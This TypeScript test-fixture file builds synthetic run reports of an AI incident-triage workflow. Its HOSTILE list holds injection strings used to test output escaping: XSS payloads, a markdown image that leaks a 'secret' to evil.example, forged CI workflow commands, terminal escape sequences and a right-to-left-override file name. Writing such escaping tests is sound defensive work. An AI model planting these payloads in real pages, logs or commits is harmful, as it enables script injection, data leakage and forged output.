import type { Json, JsonObject } from "../../src/core/base/values.ts";
import type { EventBody, RunEvent } from "../../src/core/engine/event/event.ts";
import type { EvalResult, NodeResult, ToolCall } from "../../src/core/engine/event/node-result.ts";
import type { RunRecord } from "../../src/core/engine/event/record.ts";
import { degradedIn, shortfallsOf } from "../../src/core/engine/fold/degraded.ts";
import { fold } from "../../src/core/engine/fold/fold.ts";
import { begin, type State } from "../../src/core/engine/fold/state.ts";
import { describeResult } from "../../src/core/engine/result/result.ts";
import type { Report } from "../../src/reports/model/report.ts";

/**
 * Text that an attacker might write into an alert, a log or a commit message. Each contains its name, so that a leak is
 * found.
 */
export const HOSTILE = [
  "<script>alert('leak')</script>",
  "<img src=x onerror=alert(1)>",
  "[status page](javascript:alert(1))",
  "![x](http://evil.example/?q=secret)",
  "@everyone see #1 and GH-2",
  "\n::set-output name=a::b\n##[error]forged",
  "\u001b[31mred\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007\u001b[2J",
  "]]><!-- --> ]]>",
  '" onmouseover="alert(1)',
  "</style></details></table><iframe src=//evil.example>",
  "| a | b |\n|---|---|\n`code` ``` fence",
  "invoice\u202egnp.exe",
  "$\\href{javascript:alert(1)}{x}$ www.evil.example mail@evil.example",
  "\u0000\u0007\ud800\uffff",
];

const HOUR = Date.parse("2026-11-20T14:40:00.000Z");

interface Telling {
  /** Inserted in every place that untrusted text can reach. */
  readonly text?: string;
  /** The last node fails instead. */
  readonly fails?: boolean;
}

/** A triage of a checkout incident: a loop back, a failed eval with its retry, a skipped node, a failed one, a plan. */
export function triageRun({ text = "", fails = false }: Telling = {}): Report {
  const record = triageRecord(text);
  const events = numbered(record, [
    ...opening(record),
    ...evidence(text),
    ...loop(text),
    ...challenge(text),
    ...ending(text, fails),
  ]);
  return reportOf(record, events);
}

/** A run of many visits, each of them small. */
export function longRun(visits: number): Report {
  const record = triageRecord("");
  const bodies = Array.from({ length: visits }, (_, index): EventBody[] => [
    { type: "node:enter", node: `step-${index}`, instruction: "", iteration: 1 },
    exit(`step-${index}`, {
      status: index % 7 === 6 ? "failed" : "success",
      data: { summary: `step ${index} is done`, findings: claims("") },
      toolCalls: [],
    }),
    { type: "route", from: `step-${index}`, to: `step-${index + 1}`, reason: "only path", edge: 0 },
  ]);
  return reportOf(
    record,
    numbered(record, [...opening(record), ...bodies.flat(), ...closing("succeeded", "the last node is done")]),
  );
}

/** The report of a run, built from its events. */
export function reportOf(record: RunRecord, events: readonly RunEvent[]): Report {
  const result = describeResult(record, events.reduce(fold, begin(record)));
  return { record, events, result };
}

function triageRecord(text: string): RunRecord {
  return {
    schema: "skillflow.run/2",
    run: "2026-11-20-checkout-7f3a",
    kind: "run",
    at: new Date(HOUR).toISOString(),
    file: "workflows/incident-triage.yml",
    workflow: triageWorkflow(text),
    input: {
      alert: `CheckoutHighErrorRate: 100 % of POST /checkout answered 5xx ${text}`,
      repository: "acme/checkout",
      dryRun: false,
    },
    sources: {
      "nodes.gather.instruction": source(
        "file",
        "Read the alert, then collect what the logs and the metrics say.",
        "3f9a01c27bd4e856",
      ),
      "rules[0]": source("inline", `Never restart a database. ${text}`, "b1946ac92492d234"),
      "context[0]": source("url", "Deploys happen from main, several times a day.", "591785b794601e21"),
    },
    skills: [
      skill("filesystem", true),
      skill("datadog", true),
      skill("github", true),
      skill("linear", true),
      { ...skill("betterstack", false), reason: `BETTERSTACK_TOKEN is not set ${text}` },
      { ...skill("slack", false), reason: "SLACK_WEBHOOK_URL is not set" },
    ],
    settings: {
      model: "anthropic:claude-sonnet-4-5",
      judge_model: "claude-haiku-4-5",
      writes: "allow",
      limits: { max_cost_usd: 2, timeout_ms: 900_000 },
      max_turns: 20,
      tool_timeout_ms: 60_000,
      context_mode: "full",
    },
    warnings: [`skill slack is not available: SLACK_WEBHOOK_URL is not set ${text}`],
  };
}

function triageWorkflow(text: string): RunRecord["workflow"] {
  const node = (name: string, skills: string[]) => ({ name, instruction: `Do your part: ${name}`, skills });
  return {
    id: "incident-triage",
    name: `Incident triage${text}`,
    description: `From an alert to a cause with evidence, a fix to approve and a ticket. ${text}`,
    entry: "gather",
    nodes: {
      gather: node(`Gather evidence${text}`, ["filesystem", "datadog", "betterstack"]),
      hypothesise: node("Form hypotheses", ["datadog"]),
      challenge: node("Challenge the cause", ["github", "datadog"]),
      ask_owner: node("Ask the owner", ["github"]),
      page: node("Page the on-call engineer", ["slack"]),
      file_ticket: node("File the ticket", ["linear"]),
      "post-mortem/draft": node("Draft the post-mortem", ["filesystem"]),
      escalate: node("Escalate", ["slack"]),
    },
    edges: [
      { from: "gather", to: "hypothesise" },
      {
        from: "hypothesise",
        to: "gather",
        when: `the evidence does not separate the hypotheses ${text}`,
        max_iterations: 2,
      },
      { from: "hypothesise", to: "challenge", when: "one hypothesis explains all of the evidence" },
      { from: "challenge", to: "ask_owner", when: "the change has a single author" },
      { from: "challenge", to: "escalate", when: "no cause survives" },
      { from: "ask_owner", to: "page" },
      { from: "page", to: "file_ticket", when: "paging failed or was not needed" },
      { from: "page", to: "escalate", when: "customers cannot pay and nobody answers" },
      { from: "file_ticket", to: "post-mortem/draft" },
    ],
  };
}

function opening(record: RunRecord): EventBody[] {
  return [
    { type: "workflow:start", workflow: record.workflow.id },
    { type: "sources:resolved", sources: record.sources },
    ...record.warnings.map((message): EventBody => ({ type: "warning", message })),
  ];
}

function evidence(text: string): EventBody[] {
  const logs: ToolCall = {
    tool: "filesystem_read",
    input: { path: "logs/checkout-1.log.gz", from: "14:38:00", pattern: `ERROR${text}` },
    output: {
      lines: [
        `14:38:12 ERROR pool timeout after 1000ms (size 10, waiting 41)${text}`,
        "14:38:12 ERROR POST /checkout 503",
      ],
      truncated: true,
    },
  };
  const metrics: ToolCall = {
    tool: "datadog_query_metrics",
    input: { query: "avg:checkout.pool.in_use{service:checkout}", from: "-30m" },
    output: {
      series: [
        { instance: "checkout-1", in_use: 10, waiting: 41 },
        { instance: "checkout-2", in_use: 10, waiting: 38 },
      ],
    },
  };
  const data = {
    summary: `Both instances exhaust their connection pool from 14:38:10 on, 44 s after v1.14.0 was ready.${text}`,
    window: { from: "14:37:26", to: "14:41:02" },
    findings: claims(text),
  };
  return [...visit({ node: "gather", calls: [logs, metrics], data }), route("gather", "hypothesise", "only path", 0)];
}

function loop(text: string): EventBody[] {
  const first = {
    summary: "Two hypotheses remain: a leak of connections in v1.14.0, or a slow payment provider.",
    hypotheses: [
      { id: "H1", text: `v1.14.0 leaks a pool connection when a card is declined${text}`, likelihood: 0.7 },
      { id: "H2", text: "The payment provider answers slowly", likelihood: 0.3 },
    ],
  };
  const failed: ToolCall = {
    tool: "datadog_query_metrics",
    input: { query: "p99:payments.latency{*}" },
    error: `429: rate limited, retry after 20 s ${text}`,
  };
  const long: ToolCall = {
    tool: "filesystem_read",
    input: { path: "logs/checkout-2.log.gz" },
    output: `${"14:38:13 ERROR pool timeout after 1000ms\n".repeat(5000)}${text}`,
  };
  const second = {
    ...first,
    summary: "H2 is refuted: declined payments take the same time as before.",
    hypotheses: first.hypotheses.slice(0, 1),
  };
  return [
    ...visit({ node: "hypothesise", data: first }),
    routing("hypothesise"),
    route("hypothesise", "gather", `the evidence does not separate the hypotheses ${text}`, 1),
    ...visit({
      node: "gather",
      iteration: 2,
      calls: [failed, long],
      data: { summary: "The latency of the provider is unchanged.", findings: claims(text) },
    }),
    route("gather", "hypothesise", "only path", 0),
    ...visit({ node: "hypothesise", iteration: 2, data: second }),
    routing("hypothesise"),
    route("hypothesise", "challenge", "one hypothesis explains all of the evidence", 2),
  ];
}

function challenge(text: string): EventBody[] {
  const node = "challenge";
  const compare: ToolCall = {
    tool: "github_compare_commits",
    input: { base: "v1.13.1", head: "v1.14.0" },
    output: { files: [{ filename: "src/payments.js", additions: 12, deletions: 4 }], html: `<b>${text}</b>` },
  };
  const search: ToolCall = {
    tool: "github_search_code",
    input: { q: "pool.acquire" },
    output: { total: 2, items: [] },
  };
  const failing: EvalResult = {
    name: "cites evidence",
    kind: "value",
    pass: false,
    reasoning: `claims[1].evidence is empty ${text}`,
  };
  const evals: EvalResult[] = [
    { name: "cites evidence", kind: "value", pass: true },
    { name: "read the change", kind: "function", pass: true, reasoning: "github_compare_commits was called" },
    {
      name: "cause is proven",
      kind: "judge",
      pass: true,
      reasoning: `The diff shows the early return on a declined card before release(); the counters fit. ${text}`,
      score: 0.92,
    },
  ];
  const data = {
    cause: `payments.js returns early on a declined card and never releases its connection.${text}`,
    severity: "SEV1",
    confidence: 0.92,
    commit: "44e3e56bf1c2d3a4b5c6d7e8f9a0b1c2d3e4f5a6",
    claims: claims(text),
    ruled_out: ["A slow payment provider", "A change of the pool size", `A traffic peak${text}`],
  };
  return [
    enter(node, 1),
    ...called(node, compare, `${node}/0/0`),
    reply(node, "work", "claude-sonnet-4-5"),
    reply(node, "judge", "claude-haiku-4-5"),
    {
      type: "node:retry",
      node,
      attempt: 1,
      reason: `eval failed (policy: all_pass):\n  - ${failing.name} (value): ${failing.reasoning}`,
      preamble: `Your claims need evidence. ${text}`,
    },
    ...called(node, search, `${node}/1/0`),
    { type: "reply:rejected", node, reason: `Your answer does not match the required output: ${text}` },
    reply(node, "work", "claude-sonnet-4-5"),
    exit(node, { status: "success", data, toolCalls: [search], evals }),
    routing(node),
    route(node, "ask_owner", "the change has a single author", 3),
  ];
}

function ending(text: string, fails: boolean): EventBody[] {
  const issue: ToolCall = {
    tool: "linear_create_issue",
    input: {
      title: `Checkout leaks pool connections on declined cards${text}`,
      team: "PAY",
      priority: 1,
      labels: ["incident", "sev1"],
    },
    output: { id: "PAY-412", url: "https://linear.app/acme/issue/PAY-412" },
  };
  const planned: ToolCall = {
    tool: "filesystem_write",
    input: { path: "post-mortems/2026-11-20.md", text: `# Checkout 5xx\n${text}` },
    output: { planned: true, id: "op-1" },
  };
  const draft = {
    summary: `The post-mortem is drafted and waits for approval.${text}`,
    actions: [
      { action: "Roll back to v1.13.1", owner: "on-call", urgent: true },
      { action: `Release the connection in a finally block${text}`, owner: "payments", urgent: false },
    ],
    url: "https://linear.app/acme/issue/PAY-412",
  };
  const last: NodeResult = fails
    ? { status: "failed", data: { error: `the limit of 20 turns was reached${text}` }, toolCalls: [] }
    : { status: "success", data: draft, toolCalls: [planned] };
  const end = fails
    ? closing("failed", "node post-mortem/draft failed", {
        code: "node.failed",
        message: `the limit of 20 turns was reached${text}`,
        hint: `raise max_turns ${text}`,
        node: "post-mortem/draft",
      })
    : closing("succeeded", `the last node is done${text}`);
  return [
    enter("ask_owner", 1),
    exit("ask_owner", {
      status: "skipped",
      data: { skipped_reason: `requires not met: input.owner is missing ${text}` },
      toolCalls: [],
    }),
    route("ask_owner", "page", "only path", 5),
    enter("page", 1),
    {
      type: "model:error",
      node: "page",
      purpose: "work",
      model: "claude-sonnet-4-5",
      code: "model.overloaded",
      message: `529 overloaded ${text}`,
    },
    { type: "warning", node: "page", message: `tools.allow names slack_post, which no skill of this node has ${text}` },
    exit("page", {
      status: "failed",
      data: { error: `no tool to page with: slack is not available ${text}` },
      toolCalls: [],
    }),
    route("page", "file_ticket", "paging failed or was not needed", 6),
    ...visit({
      node: "file_ticket",
      calls: [issue],
      data: { issue: "PAY-412", url: "https://linear.app/acme/issue/PAY-412", created: true },
    }),
    route("file_ticket", "post-mortem/draft", "only path", 8),
    enter("post-mortem/draft", 1),
    ...called("post-mortem/draft", planned, "post-mortem/draft/0/0"),
    reply("post-mortem/draft", "work", "claude-sonnet-4-5"),
    exit("post-mortem/draft", last),
    ...end,
  ];
}

function claims(text: string): Json[] {
  return [
    {
      claim: `Both instances ran out of pool connections from 14:38:10 on${text}`,
      evidence: ["r1", "r2"],
    },
    {
      claim: "The leak began with v1.14.0",
      evidence: ["deploys.jsonl: v1.14.0 ready at 14:37:26", `https://status.example.com/incidents/42${text}`],
    },
    {
      claim: "Each declined card costs one connection",
      evidence: [{ ref: "r2", quote: `payments_declined_since_start rises with pool_in_use${text}` }],
    },
  ];
}

interface VisitTelling {
  readonly node: string;
  readonly iteration?: number;
  readonly calls?: readonly ToolCall[];
  readonly data: JsonObject;
}

function visit({ node, iteration = 1, calls = [], data }: VisitTelling): EventBody[] {
  const made = calls.flatMap((call, index) => called(node, call, `${node}/${iteration}/${index}`));
  const result: NodeResult = { status: "success", data, toolCalls: [...calls] };
  return [
    enter(node, iteration),
    reply(node, "work", "claude-sonnet-4-5"),
    ...made,
    reply(node, "work", "claude-sonnet-4-5"),
    exit(node, result),
  ];
}

function enter(node: string, iteration: number): EventBody {
  return { type: "node:enter", node, iteration, instruction: `Do your part: ${node}` };
}

function exit(node: string, result: NodeResult): EventBody {
  return { type: "node:exit", node, result };
}

function route(from: string, to: string, reason: string, edge: number): EventBody {
  return { type: "route", from, to, reason, edge };
}

function routing(node: string): EventBody {
  return reply(node, "route", "claude-sonnet-4-5");
}

function reply(node: string, purpose: "work" | "route" | "judge", model: string): EventBody {
  const usage = { inputTokens: 6200, cachedTokens: 4100, outputTokens: 480, costUsd: 0.0147 };
  return {
    type: "model:reply",
    node,
    purpose,
    model,
    parts: [{ type: "text", text: "{}" }],
    stop: "end",
    usage,
    prompt: "9f86d081884c7d65",
  };
}

function called(node: string, { tool, input, output, error }: ToolCall, id: string): EventBody[] {
  const outcome = error === undefined ? { output: output ?? null } : { error };
  return [
    { type: "tool:call", node, tool, input, ref: "", id },
    { type: "tool:result", node, tool, ref: "", id, ...outcome },
  ];
}

function closing(
  status: "succeeded" | "failed",
  reason: string,
  error?: { code: string; message: string; hint?: string; node?: string },
): EventBody[] {
  return [{ type: "workflow:end", results: {}, status, reason, ...(error ? { error } : {}) }];
}

function numbered(record: RunRecord, bodies: readonly EventBody[]): RunEvent[] {
  const start = Date.parse(record.at);
  let calls = 0;
  const state = begin(record);
  return bodies.map((body, seq) => {
    const event = {
      ...body,
      ...(body.type === "tool:call" ? { ref: `r${++calls}` } : body.type === "tool:result" ? { ref: `r${calls}` } : {}),
      ...shortfallsAt(record, state, body),
      seq,
      time: new Date(start + seq * 1730).toISOString(),
      epoch: 0,
      key: `k${seq}`,
    } as RunEvent;
    fold(state, event);
    return event;
  });
}

/** The engine's records about nodes that did less than intended. */
function shortfallsAt(record: RunRecord, state: State, body: EventBody) {
  if (body.type === "workflow:end") return { degraded: degradedIn(state) };
  if (body.type === "route" && state.leaving?.failed)
    return { degraded: [{ reason: `it failed, and the run continued: ${state.leaving.error?.message}` }] };
  if (body.type !== "node:exit") return {};
  const node = record.workflow.nodes[body.node] ?? {};
  return { degraded: shortfallsOf(record.skills, { node, result: body.result, changed: [] }) };
}

function source(kind: "inline" | "file" | "url", content: string, hash: string): RunRecord["sources"][string] {
  const resolver = kind === "url" ? "fetch" : kind;
  const origin =
    kind === "file" ? "./prompts/gather.md" : kind === "url" ? "https://docs.example.com/deploys.md" : content;
  return { content, kind, origin, resolver, hash };
}

function skill(id: string, available: boolean): RunRecord["skills"][number] {
  return { id, name: id, format: "module", available, tools: [] };
}
